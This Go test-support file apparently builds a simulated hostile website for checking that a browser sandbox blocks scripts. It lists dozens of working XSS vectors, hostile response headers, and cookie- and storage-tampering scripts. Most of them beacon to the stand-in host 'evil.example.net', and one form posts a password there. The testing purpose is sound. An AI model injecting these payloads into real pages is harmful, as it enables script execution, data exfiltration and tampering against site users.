package browserlab_test

import (
	"fmt"
	"sort"
	"strings"
)

// evil is the host that hostile pages report to. It is up all the time.
const evil = "evil.example.net"

// ran is what a hostile script does first: it leaves a mark in its page and tells its master. What it
// can do it can do in the name of the page's origin.
func ran(name string) string {
	return fmt.Sprintf(`document.documentElement.dataset.ran+=' %s';new Image().src='https://`+evil+`/ran?%[1]s'`, name)
}

// vectors are ways to have a script run in a page, or to have the browser go to somebody without being
// asked. Those under "quiet" do not run on a page with scripts either unless somebody clicks.
var vectors = map[string]string{
	"inline":         `<script>` + ran("inline") + `</script>`,
	"external":       `<script src="/hostile/a.js"></script>`,
	"foreign":        `<script src="https://` + evil + `/a.js"></script>`,
	"module":         `<script type=module>` + ran("module") + `</script>`,
	"data":           `<script src="data:text/javascript,` + ran("data") + `"></script>`,
	"onerror":        `<img src="data:," onerror="` + ran("onerror") + `">`,
	"svg":            `<svg onload="` + ran("svg") + `"></svg>`,
	"svgscript":      `<svg><script>` + ran("svgscript") + `</script></svg>`,
	"animation":      `<svg width=9 height=9><rect><animate onbegin="` + ran("animation") + `" attributeName=x dur=1s /></rect></svg>`,
	"toggle":         `<details open ontoggle="` + ran("toggle") + `"><p>x</details>`,
	"focus":          `<input autofocus onfocus="` + ran("focus") + `">`,
	"video":          `<video><source onerror="` + ran("video") + `" src="data:,"></video>`,
	"style":          `<style onload="` + ran("style") + `"></style>`,
	"link":           `<link rel=stylesheet href="data:text/css," onload="` + ran("link") + `">`,
	"shadow":         `<div><template shadowrootmode=open><img src="data:," onerror="` + ran("shadow") + `"></template></div>`,
	"srcdoc":         `<iframe srcdoc="<script>parent.` + ran("srcdoc") + `</script>"></iframe>`,
	"javascriptsrc":  `<iframe src="javascript:parent.` + ran("javascriptsrc") + `"></iframe>`,
	"frame":          `<iframe src="/hostile/frame"></iframe>`,
	"foreignframe":   `<iframe src="https://` + evil + `/frame"></iframe>`,
	"object":         `<object data="/hostile/frame" type="text/html"></object>`,
	"embed":          `<embed src="/hostile/frame" type="text/html">`,
	"worker":         `<script>new Worker('/hostile/worker.js')</script>`,
	"blob":           `<script>new Worker(URL.createObjectURL(new Blob(["fetch('https://` + evil + `/ran?blob')"])))</script>`,
	"serviceworker":  `<script>navigator.serviceWorker.register('/sw.js').then(()=>{` + ran("serviceworker") + `})</script>`,
	"preload":        `<link rel=preload as=script href="https://` + evil + `/ran?preload">`,
	"modulepreload":  `<link rel=modulepreload href="https://` + evil + `/ran?modulepreload">`,
	"prefetch":       `<link rel=prefetch href="https://` + evil + `/ran?prefetch">`,
	"manifest":       `<link rel=manifest href="https://` + evil + `/ran?manifest">`,
	"speculation":    `<script type=speculationrules>{"prefetch":[{"urls":["https://` + evil + `/ran?speculation"],"eagerness":"immediate"}]}</script>`,
	"formsubmit":     `<form id=auto action="https://` + evil + `/ran?formsubmit"><input name=q value=1></form><script>auto.submit()</script>`,
	"metacookie":     `<meta http-equiv=set-cookie content="planted=meta">`,
	"cookie":         `<script>document.cookie='planted=script; max-age=9999';localStorage.note='planted'</script>`,
	"indexeddb":      `<script>indexedDB.deleteDatabase('notes')</script>`,
	"cachestorage":   `<script>caches.open('planted')</script>`,
	"unregistration": `<script>navigator.serviceWorker.getRegistrations().then(l=>l.forEach(r=>r.unregister()))</script>`,
	"blocking":       `<script>alert('blocked')</script>`,
}

// hostile fields are those by which a response acts on its origin, or makes a browser act.
var hostileFields = []string{
	"Clear-Site-Data", `"*"`,
	"Strict-Transport-Security", "max-age=9999999; includeSubDomains",
	"Refresh", "0; url=https://" + evil + "/ran?refresh",
	"Link", "<https://" + evil + "/ran?header>; rel=preload; as=script",
	"Service-Worker-Allowed", "/",
	"Report-To", `{"group":"g","max_age":9999,"endpoints":[{"url":"https://` + evil + `/ran?report"}]}`,
	"Nel", `{"report_to":"g","max_age":9999,"success_fraction":1}`,
	"Alt-Svc", `h2="` + evil + `:443"`,
	"Content-Security-Policy-Report-Only", "default-src 'none'; report-uri https://" + evil + "/ran?csp",
	"Speculation-Rules", `"https://` + evil + `/ran?rules"`,
}

// gif is a picture.
const gif = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

// hides are the ways of a page to get rid of the banner that style sheets have, but for those that also hide
// the page itself.
const hides = `<style>
	div, section, details, summary, p, template { display: none !important; visibility: hidden !important; opacity: 0 !important }
	body > *:first-child { display: none !important; position: absolute !important; left: -9999px !important; transform: scale(0) !important; z-index: -1 !important; clip-path: inset(50%) !important }
	:host, ::slotted(*), :host > * { display: none !important }
	#secret { position: fixed; inset: 0; z-index: 2147483646; background: #fee; display: block !important; visibility: visible !important; opacity: .2 !important; pointer-events: none }
</style>`

// absolute is for a page whose base is elsewhere.
var absolute = strings.NewReplacer(`"/hostile/`, `"https://HOST/hostile/`, `'/hostile/`, `'https://HOST/hostile/`, `'/sw.js`, `'https://HOST/sw.js`)

// hostilePage tries all vectors but those left out, and has things to click.
func hostilePage(but ...string) string {
	skip := " " + strings.Join(but, " ") + " "
	names := make([]string, 0, len(vectors))
	for name := range vectors {
		if !strings.Contains(skip, " "+name+" ") {
			names = append(names, name)
		}
	}
	sort.Strings(names)
	var b strings.Builder
	b.WriteString(`<!doctype html><html data-ran="" lang=en><base href="https://` + evil + `/base/"><meta charset=utf-8><title>Forged</title>`)
	b.WriteString(`<link rel=stylesheet href="https://HOST/hostile/style.css">` + hides)
	b.WriteString(`<body onload="` + ran("onload") + `"><h1 id=forged>Forged by a liar</h1><img id=small src="https://HOST/hostile/small.gif" alt=small><img id=picture src="https://HOST/hostile/picture.gif" alt=picture>`)
	b.WriteString(`<p style="display:block!important;visibility:visible!important;opacity:1!important"><a id=link href="javascript:` + ran("link") + `">a link</a>
		<a id=window target=_blank href="https://` + evil + `/ran?window">a window</a>
		<a id=ping ping="https://` + evil + `/ran?ping" href="#x">a ping</a>
		<button id=press onclick="` + ran("press") + `">press</button></p>
		<form id=form action="https://` + evil + `/ran?form" method=post><input name=password value=hunter2><button id=send>send</button></form>`)
	for _, name := range names {
		b.WriteString("\n" + absolute.Replace(vectors[name]))
	}
	b.WriteString(`<i id=secret></i>`)
	return b.String()
}

// hostileSite is all of what the liar's server has for a host.
func hostileSite(host string, but ...string) replies {
	frame := html("Frame", `<script>`+ran("frame")+`;try{parent.document.documentElement.dataset.ran+=' parent'}catch(e){}</script>`)
	frame.body = strings.Replace(frame.body, "<html", `<html data-ran=""`, 1)
	script := func(name string) reply { return reply{kind: "text/javascript", body: ran(name)} }
	page := reply{kind: "text/html; charset=utf-8", body: strings.ReplaceAll(hostilePage(but...), "HOST", host)}
	return replies{
		"/hostile/page":        page.with(hostileFields...),
		"/hostile/frame":       frame.with(hostileFields...),
		"/hostile/a.js":        script("external"),
		"/hostile/worker.js":   {kind: "text/javascript", body: "fetch('https://" + evil + "/ran?worker')"},
		"/sw.js":               {kind: "text/javascript", body: "fetch('https://" + evil + "/ran?sw')"},
		"/hostile/style.css":   {kind: "text/css", body: "#forged { color: rgb(9, 8, 7) }"},
		"/hostile/small.gif":   {kind: "image/gif", body: gif},
		"/hostile/picture.gif": {kind: "text/html", body: gif + "<script>" + ran("picture") + "</script>"},
		"/hostile/drawing.svg": {kind: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg" data-ran="" onload="` + ran("drawing") + `"><script>` + ran("drawing") + `</script><text y="20">drawing</text></svg>`},
		"/hostile/page.xhtml":  {kind: "application/xhtml+xml", body: `<html xmlns="http://www.w3.org/1999/xhtml" data-ran=""><head><title>x</title></head><body><p>xhtml</p><script>` + ran("xhtml") + `</script></body></html>`},
		"/hostile/sheet.xml":   {kind: "text/xml", body: `<?xml version="1.0"?><root><script xmlns="http://www.w3.org/1999/xhtml">fetch('https://` + evil + `/ran?xml')</script></root>`},
		"/hostile/text.txt":    {kind: "text/plain", body: `<html data-ran=""><script>` + ran("sniffed") + `</script>`},
		"/hostile/nothing":     {kind: "", body: `<html data-ran=""><script>` + ran("untyped") + `</script>`},
	}
}
